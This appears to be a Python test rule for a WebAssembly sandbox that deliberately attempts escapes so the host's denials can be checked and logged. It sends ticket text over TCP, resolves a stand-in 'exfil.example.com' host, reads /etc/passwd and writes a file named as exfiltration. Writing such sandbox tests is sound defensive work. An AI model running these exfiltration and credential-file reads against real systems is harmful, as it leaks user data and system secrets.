"""A Python rule that tries to leave the sandbox: a TCP connection to the address in config
``target``, a name lookup, reading and writing files, the environment; and raises on purpose
when the category says so. Built with componentize-py's default flags, it imports every
``wasi:sockets`` interface, which the host links with every use denied."""

import os
import random
import socket
import time

import wit_world
from wit_world.imports import host as host_imports

from switchboard_sdk import Metric, Party, Priority, RuleError, decision, export_rule


def outcome(f):
    try:
        f()
        return "ALLOWED"
    except Exception as e:  # noqa: BLE001
        return f"denied ({type(e).__name__}: {e})"


def route(event, host):
    category = event.ticket.category
    if category == "throw":
        raise KeyError("no queue for this ticket")
    if category == "rule-error":
        raise RuleError("missing-config", "set `calendar`")
    target = host.config("target")
    if target:
        address, port = target.rsplit(":", 1)

        def connect():
            with socket.create_connection((address, int(port)), timeout=1) as s:
                s.sendall(event.ticket.description.encode())

        host.info(f"tcp: {outcome(connect)}")
        host.info(f"dns: {outcome(lambda: socket.getaddrinfo('exfil.example.com', 443))}")
        host.info(f"read: {outcome(lambda: open('/etc/passwd').read())}")
        host.info(f"write: {outcome(lambda: open('/tmp/switchboard-exfil', 'w').write('x'))}")
        host.info(f"env: {len(os.environ)} variables")
    return (decision("desk", Party.MSP, 1, Priority.P3)
            .sla(Metric.FIRST_RESPONSE, 60, "24x7")
            .reason(f"random {random.random()} now {time.time()}"))


class WitWorld(wit_world.WitWorld):
    route = export_rule(route, host_imports)
